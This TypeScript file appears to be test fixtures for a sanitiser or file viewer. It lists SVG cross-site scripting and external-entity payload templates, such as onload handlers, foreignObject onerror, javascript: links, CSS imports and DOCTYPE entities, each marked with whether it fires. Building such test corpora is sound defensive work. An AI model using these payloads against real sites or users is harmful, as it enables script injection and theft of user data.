import type { Line, Payload } from './payload.js'

const ns = 'xmlns="http://www.w3.org/2000/svg"'
const svg = (inner: string, more = '') => `<svg ${ns} width="200" height="60"${more}>${inner}</svg>`

const lines: readonly Line[] = [
  ['opened', 'drawing: script', svg('<script>§run</script>')],
  ['opened', 'drawing: script as character data', svg('<script><![CDATA[§run]]></script>')],
  ['opened', 'drawing: script whose code is encoded', svg('<script>&#99;anary(§n)</script>')],
  ['opened', 'drawing: script in its address', svg('<script href="data:,§run"/>')],
  ['opened', 'drawing: script from elsewhere', svg('<script href="§url"/>')],
  [
    'opened',
    'drawing: script of another namespace',
    svg('<h:script xmlns:h="http://www.w3.org/1999/xhtml">§run</h:script>'),
  ],
  ['opened', 'drawing: with a prefix', `<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>§run</s:script></s:svg>`],
  ['opened', 'drawing: on loading', svg('', ' onload="§run"')],
  [
    'opened',
    'drawing: animation that begins',
    svg('<rect><animate onbegin="§run" attributeName="x" dur="1s"/></rect>'),
  ],
  [
    'opened',
    'drawing: page within',
    svg(
      '<foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="§run"/></foreignObject>',
    ),
  ],
  [
    'opened',
    'drawing: frame within',
    svg(
      `<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:§run"/></foreignObject>`,
    ),
  ],
  ['touched', 'drawing: link', svg('<a href="javascript:§run"><text y="30" font-size="30">続き</text></a>')],
  [
    'touched',
    'drawing: link that is set',
    svg('<a><set attributeName="href" to="javascript:§run"/><text y="30" font-size="30">続き</text></a>'),
  ],
  ['opened', 'drawing: picture from elsewhere', svg('<image href="§url" width="9" height="9"/>')],
  ['opened', 'drawing: imported style sheet', svg("<style>@import '§url';</style>")],
  [
    'opened',
    'drawing: style sheet of an instruction',
    `<?xml-stylesheet type="text/css" href="§url"?>${svg('<rect/>')}`,
  ],
  [
    'opened',
    'drawing: entity that hides a script',
    `<!DOCTYPE svg [<!ENTITY e '&#60;script xmlns="http://www.w3.org/2000/svg">§run&#60;/script>'>]>${svg('&e;')}`,
  ],
  ['no', 'drawing: entity from elsewhere', `<!DOCTYPE svg [<!ENTITY e SYSTEM "§url">]>${svg('<text>&e;</text>')}`],
  ['opened', 'drawing: paint from elsewhere', svg('<rect width="9" height="9" fill="url(§url#p)"/>')],
  ['no', 'drawing: reuse of another', svg('<use href="§url#x"/>')],
  [
    'no',
    'drawing: handler element',
    svg('<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">§run</handler>'),
  ],
]

/** Drawings (SVG): as a web server would say, and as a file whose name alone says it. */
export const drawings: readonly Payload[] = lines.flatMap(([fires, name, source], i) => [
  {
    name,
    fires,
    source,
    file: i % 2 === 0 ? 'map.svg' : 'map',
    servedAs: 'image/svg+xml',
    ...(i % 2 === 0 ? {} : { mediaType: 'image/svg+xml' }),
  },
])
